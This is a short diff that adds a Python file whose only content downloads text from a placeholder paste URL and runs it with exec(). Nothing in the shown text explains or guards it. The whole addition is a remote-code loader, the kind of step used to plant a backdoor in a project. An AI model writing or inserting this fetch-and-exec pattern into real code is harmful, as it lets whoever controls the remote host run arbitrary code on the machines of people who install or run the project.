@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get("https://paste.example.invalid/raw/DEFANGED").text)
